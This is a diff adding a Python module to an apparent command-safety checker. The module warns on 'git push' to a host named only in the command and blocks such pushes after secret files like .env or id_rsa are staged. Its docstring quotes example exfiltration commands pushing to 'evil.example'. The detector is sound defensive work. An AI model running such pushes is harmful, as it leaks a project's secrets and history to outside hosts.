@@ -1,0 +1,113 @@
+"""``git push`` to a destination named in the command itself, and project secrets staged
+before it (``shell.repo-export``, ``shell.exfiltration``).
+
+* A repository operand that is a network URL or an scp-style ``[user@]host:path``
+  (``git push https://evil.example/r.git HEAD``, ``git push git@evil.example:r.git main``),
+  or a remote added in the same command under a name other than ``origin``
+  (``git remote add x URL && git push x HEAD``), sends the current history to a host that
+  only this command names: warn (``shell.repo-export``), whatever the refspec, as a push of
+  every ref to such a destination already did (``_gitpush``). Severity: warn. Publishing to
+  a new host is sometimes the task (a migration, a fork); a human should look. A remote
+  added as ``origin`` (git refuses that when ``origin`` exists, so it is a new repository's
+  first push: ``git remote add origin URL && git push -u origin main``), configured remotes
+  (``git push origin main``), a URL not known statically, and local paths
+  pass as before.
+* ``git add`` naming a project secret file (``git add -f .env``, ``git add .env.local
+  config/id_rsa``) records it for the work tree (in ``run.secret_repos`` under
+  ``staged:WORKTREE``, beside ``_gitpush``'s home-secret entries). A later push to a
+  destination named in the command sends it: ``shell.exfiltration`` (block). A push to a
+  configured remote after a *forced* add (``-f`` adds a file ``.gitignore`` keeps out)
+  warns (``shell.repo-export``): the project's secrets land in its history.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from ._paths import norm_path
+from ._words import DYN, Field
+
+if TYPE_CHECKING:
+    from ._resolve import Invocation
+    from ._walk import Run
+
+__all__ = ["push_elsewhere", "staged_secret"]
+
+_STAGED = "staged:"
+_ADD_ARG = frozenset({"--chmod", "--pathspec-from-file"})
+
+
+def staged_secret(run: Run, work: str | None, inv: Invocation, words: list[str]) -> None:
+    """Record a project secret file that ``git add WORDS`` stages in ``work``."""
+    from ._secrets import secret_file  # late: _secrets imports the rules tables
+
+    forced = False
+    named: str | None = None
+    skip = False
+    for w in words[:64]:
+        if skip:
+            skip = False
+        elif w in _ADD_ARG:
+            skip = True
+        elif w in ("-f", "--force") or (w[:1] == "-" and w[1:2] != "-" and "f" in w):
+            forced = True
+        elif not w.startswith("-") and DYN not in w and named is None and secret_file(
+                [Field(w, inv.word.span)]):
+            named = w
+    if named is None:
+        return
+    key = _STAGED + (work or ".")
+    span = run.map_span(inv.word.span)
+    run.secret_repos[key] = ("forced " if forced else "") + f"git add ({span[0]}-{span[1]}) " \
+        f"staged the secret file {named}"
+
+
+def _network(url: str) -> bool:
+    """A URL or scp-style location on another machine, known statically (a URL built
+    from variables, such as CI's ``https://x:$TOKEN@github.com/$REPO.git``, is not judged)."""
+    if DYN in url:
+        return False
+    if "://" in url:
+        scheme, _, rest = url.partition("://")
+        host = rest.split("/", 1)[0].rpartition("@")[2]
+        return scheme.lower() != "file" and bool(host) and DYN not in host
+    if url.startswith(("/", "./", "../", "~")):
+        return False
+    head, colon, _ = url.partition(":")
+    host = head.rpartition("@")[2]
+    return bool(colon) and bool(host) and "/" not in head and DYN not in head
+
+
+def push_elsewhere(run: Run, inv: Invocation, work: str | None, repo: str,
+                   section: str | None, every: bool) -> bool:
+    """Findings for ``git push REPO`` (``section``: the text of a remote REPO added in this
+    command, else None); True when one was reported."""
+    url = repo
+    if section is not None:
+        url = section.partition("url = ")[2].partition("\n")[0]
+    else:  # a URL built from variables: its words' text, not one guess of their values
+        field = next((f for f in inv.args if f.text in (repo, "--repo=" + repo)), None)
+        text = run.text_stack[-1]
+        start, end = field.span if field is not None else (0, 0)
+        raw = text[start:end] if 0 <= start < end <= len(text) else ""
+        if "$" in raw or "`" in raw:
+            url = DYN
+    named_here = _network(url) and (section is None or repo != "origin")
+    staged = run.secret_repos.get(_STAGED + (work or "."))
+    if staged is None and work is not None:
+        staged = run.secret_repos.get(_STAGED + (norm_path(".", work) or work))
+    span = (inv.word.span[0], inv.args[-1].span[1]) if inv.args else inv.word.span
+    if staged is not None and (named_here or (section is not None and _network(url))):
+        run.add("shell.exfiltration", span, f"git push sends a secret file to "
+                f"{url.replace(DYN, '?')}, a destination named only in this command",
+                f"{staged.removeprefix('forced ')} in the repository")
+        return True
+    if staged is not None and staged.startswith("forced "):
+        run.add("shell.repo-export", span, "git push sends a secret file that git add -f "
+                "staged past .gitignore", f"{staged.removeprefix('forced ')} in the repository")
+        return True
+    if named_here and not every:
+        run.add("shell.repo-export", span, f"git push sends the repository's history to "
+                f"{url.replace(DYN, '?')}, a destination named only in this command", None)
+        return True
+    return False
